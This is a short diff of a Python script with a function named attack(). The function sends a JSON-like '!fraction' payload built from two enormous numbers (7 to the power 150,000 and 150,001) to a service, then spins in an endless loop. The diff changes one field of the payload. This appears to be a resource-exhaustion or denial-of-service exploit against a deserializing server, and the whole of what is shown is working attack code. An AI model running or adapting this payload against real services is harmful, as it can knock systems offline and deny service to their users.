@@ -20,6 +20,6 @@ def send(number, payload):
 
 def attack():
     parts = [hex(7**number).encode() for number in (150_000, 150_001)]
-    send(exchange(), b'[[{"!fraction":["%b","%b"]}],[],[1]]' % tuple(parts))
+    send(exchange(), b'[[{"!fraction":["%b","%b"]}],[],"0100000000000000"]' % tuple(parts))
     while True:
         pass
